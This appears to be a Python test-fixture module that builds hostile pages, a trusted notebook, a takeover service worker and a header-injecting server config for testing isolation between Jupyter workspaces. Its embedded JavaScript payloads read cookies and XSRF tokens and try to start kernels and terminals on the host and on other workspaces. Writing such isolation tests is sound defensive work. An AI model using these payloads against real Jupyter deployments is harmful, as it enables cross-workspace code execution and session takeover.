"""What a hostile workspace writes for the isolation tests: pages and a trusted notebook whose
scripts try to act as the host, in the owner's browser. Each records what it managed in a
``<pre id="wl-attack">`` element (JSON), which the tests read.

Everything here runs inside a workspace with no privilege: files its own code may write.
"""

from __future__ import annotations

import io
import json
import tarfile

#: Where a workspace's own Jupyter serves files of a lab extension folder, as text/html without
#: a sandbox: ``<prefix>lab/extensions/evil/static/<file>``.
STATIC_DIR = "/home/jovyan/.local/share/jupyter/labextensions/evil/static"
NOTEBOOK = "/home/jovyan/work/evil.ipynb"
#: A server setting the workspace's code may write: every response of its Jupyter then carries
#: these headers (once the workspace restarts).
SERVER_CONFIG = "/home/jovyan/.jupyter/jupyter_server_config.py"
HOSTILE_HEADERS = {"Service-Worker-Allowed": "/", "Clear-Site-Data": '"cookies", "storage"'}

ATTACK_SCRIPT = """
(async () => {
  const HOST = %(host)s, OTHER = %(other)s;
  const out = {origin: location.origin, href: location.href, referrer: document.referrer, cookie: document.cookie};
  const probe = async (url, init = {}) => {
    try {
      const r = await fetch(url, {cache: 'no-store', ...init});
      let body = '';
      try { body = (await r.text()).slice(0, 200); } catch (e) {}
      return {status: r.status, type: r.type, body};
    } catch (e) { return {error: String(e)}; }
  };
  const xsrf = (document.cookie.match(/(?:^|; )_xsrf=([^;]*)/) || [])[1] || '';
  for (const credentials of ['include', 'omit']) {
    const c = {credentials};
    out[credentials] = {
      kernels: await probe(HOST + 'api/kernels', c),
      startKernel: await probe(HOST + 'api/kernels', {...c, method: 'POST', body: '{}', headers: {'X-XSRFToken': xsrf}}),
      startKernelBlind: await probe(HOST + 'api/kernels', {...c, method: 'POST', mode: 'no-cors', body: '{}'}),
      terminals: await probe(HOST + 'api/terminals', {...c, method: 'POST', headers: {'X-XSRFToken': xsrf}}),
      workspaces: await probe(HOST + 'workspace-launcher/api/workspaces', c),
      launch: await probe(HOST + 'workspace-launcher/api/workspaces', {...c, method: 'POST', mode: 'no-cors',
                          body: JSON.stringify({profile: 'minimal', name: 'planted'})}),
      otherContents: await probe(OTHER + 'api/contents', c),
      otherKernel: await probe(OTHER + 'api/kernels', {...c, method: 'POST', mode: 'no-cors', body: '{}'}),
    };
  }
  const socket = url => new Promise(done => {
    try {
      const ws = new WebSocket(url.replace(/^http/, 'ws'));
      ws.onopen = () => { done('opened'); ws.close(); };
      ws.onerror = () => done('refused');
    } catch (e) { done(String(e)); }
  });
  out.hostSocket = await socket(HOST + 'api/events/subscribe');
  out.otherSocket = await socket(OTHER + 'terminals/websocket/1');
  const pre = document.createElement('pre');
  pre.id = 'wl-attack';
  pre.textContent = JSON.stringify(out);
  (document.getElementById('wl-attack-out') || document.body).appendChild(pre);
})();
"""

SERVICE_WORKER_PAGE = """<!DOCTYPE html><html><body><script>
(async () => {
  const out = {};
  for (const scope of ['/', './']) {
    try {
      const registration = await navigator.serviceWorker.register('sw.js', {scope});
      out[scope] = 'registered ' + registration.scope;
      await registration.unregister();  // within the workspace's own origin: let later pages load
    } catch (e) { out[scope] = 'refused: ' + e.name; }
  }
  const pre = document.createElement('pre');
  pre.id = 'wl-attack';
  pre.textContent = JSON.stringify(out);
  document.body.appendChild(pre);
})();
</script></body></html>
"""

#: Once the host's /lab and /login, had it controlled the host's origin.
SERVICE_WORKER = """
self.addEventListener('fetch', event => {
  event.respondWith(new Response('<h1>taken over by a workspace</h1>', {headers: {'Content-Type': 'text/html'}}));
});
"""


def attack_page(host: str, other: str) -> str:
    """``host``: the host server's URL (base included); ``other``: another workspace's prefix URL."""
    script = ATTACK_SCRIPT % {"host": json.dumps(host), "other": json.dumps(other)}
    return f"<!DOCTYPE html><html><head><title>evil</title></head><body><script>{script}</script></body></html>"


def attack_notebook(host: str, other: str) -> str:
    """A notebook whose saved output holds the attack script (run when the notebook is trusted)."""
    script = ATTACK_SCRIPT % {"host": json.dumps(host), "other": json.dumps(other)}
    html = f"<div id='wl-attack-out'>looks harmless</div><script>{script}</script>"
    cell = {"cell_type": "code", "execution_count": 1, "id": "evil", "metadata": {}, "source": "1 + 1",
            "outputs": [{"output_type": "display_data", "data": {"text/html": html}, "metadata": {}}]}
    notebook = {"cells": [cell], "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                            "language": "python"}},
                "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(notebook)


def server_config() -> str:
    return f"c.ServerApp.tornado_settings = {{'headers': {HOSTILE_HEADERS!r}}}\n"


def tar_of(files: dict[str, str]) -> bytes:
    """A tar of ``{name: text}``, owned by the workspace's user (jovyan, 1000:100)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.uid, info.gid, info.mode = len(data), 1000, 100, 0o644
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()
